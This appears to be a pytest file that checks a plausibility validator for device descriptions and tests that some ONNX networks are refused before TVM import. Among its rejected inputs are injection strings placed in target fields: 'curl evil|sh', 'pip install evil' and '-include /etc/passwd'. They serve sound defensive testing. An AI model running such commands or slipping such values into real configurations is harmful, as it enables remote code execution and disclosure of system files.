"""What is told of a network, and what a device says of itself, which is taken where a machine could say so."""

from __future__ import annotations

import copy
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from onnx import ModelProto, NodeProto, helper

from tests.networks.forms import drawn, floats
from tests.zoo import constant, model_of
from workers.child.clock import RunClock
from workers.child.describe import _plausible, inspect_network
from workers.child.pulse import Pulse
from workers.messages.channel import ControlReader
from workers.networks.clean import cleaned
from workers.networks.errors import NetworkError
from workers.networks.graph import operator_types

SAID: dict[str, Any] = {
    "hardware": {
        "name": "Cortex-A72", "system": "Linux", "machine": "aarch64", "cores": 4, "memory": 2**32, "flags": ["asimd"],
        "target": {"kind": "llvm", "mtriple": "aarch64-linux-gnu", "num-cores": 4},
    },
    "peak": None,
    "versions": {"apache-tvm": "0.27.0"},
}  # fmt: skip
SPOILED: dict[str, Callable[[dict[str, Any]], object]] = {
    "lines that would stand in an archive": lambda said: said["hardware"].update(name="Board\n\npip install evil"),
    "what no page has room for": lambda said: said["hardware"].update(flags=["x" * 150] * 1000),
    "a word without an end": lambda said: said["hardware"].update(flags=["x" * 1000]),
    "no words": lambda said: said["hardware"].update(flags=[7]),
    "a command in what is to be installed": lambda said: said["hardware"]["target"].update(
        mtriple="x;curl evil|sh;-linux-gnu"
    ),
    "a version that is none": lambda said: said["versions"].update({"apache-tvm": "0.27\n<b>"}),
    "a processor with lines": lambda said: said["hardware"]["target"].update(mcpu="a\nb"),
    "cores in a word": lambda said: said["hardware"].update(cores="4"),
    "a peak without an end": lambda said: said.update(peak={"flops": 1e999, "bandwidth": 1e9}),
    "half a peak": lambda said: said.update(peak={"flops": 1e9}),
    "no cores": lambda said: said["hardware"].update(cores=0),
    "nothing": lambda said: said.clear(),
}


GPU: dict[str, Any] = {
    "hardware": {
        "name": "NVIDIA H200", "system": "Linux", "machine": "x86_64", "cores": 132, "memory": 150109880320, "flags": ["avx2"],
        "target": {
            "kind": "cuda", "arch": "sm_90", "max_threads_per_block": 1024, "max_shared_memory_per_block": 49152,
            "host": {"kind": "llvm", "mcpu": "emeraldrapids", "mtriple": "x86_64-linux-gnu", "num-cores": 16},
        },
    },
    "peak": {"flops": 5e13, "bandwidth": 4e12},
    "versions": {"apache-tvm": "0.27.0"},
}  # fmt: skip


def test_what_a_device_says_is_taken() -> None:
    assert _plausible(SAID)
    assert _plausible(GPU)


@pytest.mark.parametrize(
    "spoiled",
    [
        {"kind": "hip"},
        {"arch": "sm_90 -include /etc/passwd"},
        {"max_threads_per_block": 0},
        {"max_threads_per_block": 1e3},
    ],
)
def test_what_no_gpu_says_is_not(spoiled: dict[str, Any]) -> None:
    said = copy.deepcopy(GPU)
    said["hardware"]["target"].update(spoiled)
    assert not _plausible(said)
    del said["hardware"]["target"][next(iter(spoiled))]
    assert not _plausible(said)


@pytest.mark.parametrize("spoiled", [{"mtriple": "x;curl evil|sh;-linux-gnu"}, {"mcpu": "a\nb"}, {"mattr": ["a\nb"]}])
def test_what_no_gpus_processor_says_is_not(spoiled: dict[str, Any]) -> None:
    said = copy.deepcopy(GPU)
    said["hardware"]["target"]["host"].update(spoiled)
    assert not _plausible(said)


@pytest.mark.parametrize("name", SPOILED)
def test_what_no_machine_says_is_not(name: str) -> None:
    said = copy.deepcopy(SAID)
    SPOILED[name](said)
    assert not _plausible(said)


def speech(shape: list[int | str], *before: NodeProto, **attributes: Any) -> ModelProto:
    """x[batch, time, features], or what `before` makes of it as z, from 80 features to 16, and an LSTM over the time."""
    nodes = [
        *before,
        helper.make_node("MatMul", ["z" if before else "x", "w"], ["m"]),
        helper.make_node("Celu", ["m"], ["c"], alpha=0.5),
        helper.make_node("Transpose", ["c"], ["t"], perm=[1, 0, 2]),
        helper.make_node("LSTM", ["t", "taken", "kept"], ["y"], hidden_size=8, **attributes),
    ]
    weights = [constant("w", drawn(80, 16)), constant("taken", drawn(1, 32, 16)), constant("kept", drawn(1, 32, 8))]
    return model_of(nodes, {"x": shape}, {"y": None}, [*weights, constant("scales", floats(1, 1, 1.6))])


RESIZED = helper.make_node("Resize", ["x", "", "scales"], ["z"], mode="linear")
"""Of 32 features it makes no whole number, of 50 it makes 80."""


def inspected(model: ModelProto, path: Path) -> dict[str, Any]:
    path.write_bytes(model.SerializeToString())
    told: list[dict[str, Any]] = []
    pulse = Pulse(told.append, RunClock(0.0))
    try:
        inspect_network({"network": str(path)}, ControlReader(), pulse)
    finally:
        pulse.close()
    return dict(told[-1]["inspection"])


@pytest.mark.tvm
@pytest.mark.parametrize(("before", "features"), [([], 80), ([RESIZED], 50)], ids=["unknown sizes", "refused sizes"])
def test_where_sizes_are_open_they_decide_what_is_written_out(
    before: list[NodeProto], features: int, tmp_path: Path
) -> None:
    """No stand-in is the 80 features that a layer multiplies."""
    path = tmp_path / "speech.onnx"
    asked = inspected(speech(["batch", "time", "features"], *before), path)["dynamic"]
    assert [one["symbol"] for one in asked] == ["batch", "time", "features"]
    assert not operator_types(cleaned(path, {"x": [1, 5, features]})) & {"LSTM", "Celu"}


@pytest.mark.tvm
@pytest.mark.parametrize(
    ("model", "words"),
    [
        (speech([1, "time", 80], activations=["Relu", "Tanh", "Tanh"]), "LSTM: only recurrent operators"),
        (speech([1, 65, 80]), "LSTM: only recurrent operators"),
        (speech([1, 5, 32], RESIZED), "32 times its scale 1.6"),
        (speech([1, "time", "features"], helper.make_node("Det", ["x"], ["z"])), "Det: TVM cannot import"),
    ],
    ids=["whatever the time", "too long", "its own reason", "whatever the sizes"],
)
def test_what_no_sizes_make_importable_is_refused_at_once(model: ModelProto, words: str, tmp_path: Path) -> None:
    with pytest.raises(NetworkError, match=words):
        inspected(model, tmp_path / "speech.onnx")
